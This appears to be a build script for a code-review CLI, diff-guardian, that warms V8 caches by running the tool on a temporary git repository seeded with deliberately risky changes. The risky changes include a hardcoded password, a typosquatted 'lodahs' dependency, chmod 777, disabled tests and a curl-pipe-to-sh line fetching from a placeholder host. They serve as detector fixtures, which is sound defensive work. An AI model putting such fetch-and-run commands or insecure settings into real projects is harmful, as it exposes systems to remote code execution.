// Writes the code caches dist/main.<group>.v8cache (see src/cli/launcher.ts): runs the built CLI on a throwaway repository with
// DIFF_GUARDIAN_CODE_CACHE=write, so V8 records the functions that a staged
// check, a range check, a hook and a gate decision compile. Each run starts
// from the cache the previous one wrote and adds to it. Without git on PATH
// the cache is skipped; the CLI then compiles from source, only slower.
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const cli = resolve('dist/cli.js');
const dir = mkdtempSync(join(tmpdir(), 'dg-train-'));
const env = {
  ...process.env,
  DIFF_GUARDIAN_CODE_CACHE: 'write',
  GIT_CONFIG_GLOBAL: '/dev/null',
  GIT_CONFIG_NOSYSTEM: '1',
  NO_COLOR: '1',
};
const git = (...args) => execFileSync('git', args, { cwd: dir, env, stdio: ['ignore', 'pipe', 'ignore'] });
const write = (path, text) => {
  mkdirSync(join(dir, path, '..'), { recursive: true });
  writeFileSync(join(dir, path), text);
};
const run = (args, input) => spawnSync(process.execPath, [cli, ...args], { cwd: dir, env, input, stdio: ['pipe', 'ignore', 'ignore'] });

// A value that looks generated, made fresh each build so no credential-shaped text is stored.
const token = () => randomBytes(24).toString('base64url');

try {
  git('init', '-q', '-b', 'main');
  git('config', 'user.name', 'Build');
  git('config', 'user.email', 'build@example.invalid');
  write('package.json', '{\n  "name": "train",\n  "scripts": { "test": "vitest run" },\n  "dependencies": { "yaml": "^2.0.0" }\n}\n');
  write('src/app.js', "export function add(a, b) {\n  return a + b;\n}\n");
  write('test/app.test.js', "import { add } from '../src/app.js';\nit('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n");
  write('deploy.sh', '#!/bin/sh\nset -e\nchmod 644 /srv/app/config\n');
  write('README.md', '# Train\n\nAdds numbers.\n');
  git('add', '-A');
  git('commit', '-q', '-m', 'Start');

  // The group of the checks before each commit (pre-commit, commit-msg and
  // check --staged) learns from a change with no finding, as most commits are:
  // source edits, a new test and a docs line. Functions that only a finding
  // needs are left out of its cache and compiled when first called, so a
  // staged change with findings takes about 3 ms longer.
  write('src/app.js', 'export function add(a, b) {\n  // Numbers only.\n  return Number(a) + Number(b);\n}\n\nexport function sub(a, b) {\n  return a - b;\n}\n');
  // Words such as key, token and open occur in most source files, so the clean change has them
  // too: the detectors they select, and their paths for values that are no credential, are cached.
  // With them, a staged check of two other clean changes took 1 to 1.5 ms less (cache 772 KB, was 706 KB).
  write(
    'src/settings.js',
    [
      "import { readFile } from 'node:fs/promises';",
      '',
      '// Reads the settings file and merges it over the defaults.',
      'export async function loadSettings(path, defaults, mode = "r") {',
      '  const settings = { ...defaults };',
      "  const data = JSON.parse(await readFile(path, 'utf8'));",
      '  for (const [key, value] of Object.entries(data)) {',
      '    if (value !== null && value !== undefined) settings[key] = value;',
      '  }',
      "  settings.token = process.env.APP_TOKEN ?? '';",
      '  settings.mode = mode;',
      '  return settings;',
      '}',
      '',
    ].join('\n'),
  );
  write(
    'tests/test_settings.py',
    'import os\n\n\ndef test_reads_key_from_environment(monkeypatch):\n    monkeypatch.setenv("APP_KEY", "placeholder")\n    with open(os.devnull) as handle:\n        assert handle.read() == ""\n    assert os.environ["APP_KEY"] == "placeholder"\n',
  );
  write('test/app.test.js', "import { add, sub } from '../src/app.js';\nit('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\nit('subtracts', () => {\n  expect(sub(3, 2)).toBe(1);\n});\n");
  write('README.md', '# Train\n\nAdds and subtracts numbers.\n');
  git('add', '-A');
  run(['check', '--staged']);
  run(['hook', 'pre-commit']);
  write('.git/COMMIT_EDITMSG', 'Add subtraction\n\nNumbers are converted first.\n');
  run(['hook', 'commit-msg', '--', join(dir, '.git/COMMIT_EDITMSG')]);
  git('commit', '-q', '--no-verify', '-m', 'Subtract');

  write('package.json', '{\n  "name": "train",\n  "scripts": { "test": "vitest run || true" },\n  "dependencies": { "yaml": "^2.0.0", "lodahs": "^1.0.0" }\n}\n');
  write('src/app.js', `const password = "${token()}";\nexport function add(a, b) {\n  // eslint-disable-next-line\n  return a + b;\n}\n`);
  write('test/app.test.js', "import { add } from '../src/app.js';\nit.skip('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n");
  write('deploy.sh', '#!/bin/sh\nset -e\nchmod 777 /srv/app/config\ncurl -s https://example.invalid/i.sh | sh\n');
  write('.github/workflows/ci.yml', 'on: push\npermissions: write-all\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n');
  git('add', '-A');
  git('commit', '-q', '--no-verify', '-m', 'Change');
  run(['check', '--format', 'json', 'HEAD~1..HEAD']);
  const payload = (tool, input) =>
    JSON.stringify({
      session_id: 'train',
      cwd: dir,
      hook_event_name: 'PreToolUse',
      tool_name: tool,
      tool_input: input,
    });
  run(['gate'], payload('Edit', { file_path: join(dir, 'src/app.js'), old_string: 'return a + b;', new_string: 'return a - b;' }));
  run(['gate'], payload('Write', { file_path: join(dir, 'src/new.js'), content: `export const key = "${token()}";\n` }));
  run(['gate'], payload('Bash', { command: 'chmod 777 deploy.sh && npm install lodahs' }));
  run(['--help']);
  run(['rules', '--format', 'json']);
} catch (error) {
  process.stderr.write(`build: code cache skipped (${error instanceof Error ? error.message.split('\n')[0] : error})\n`);
} finally {
  rmSync(dir, { recursive: true, force: true });
}
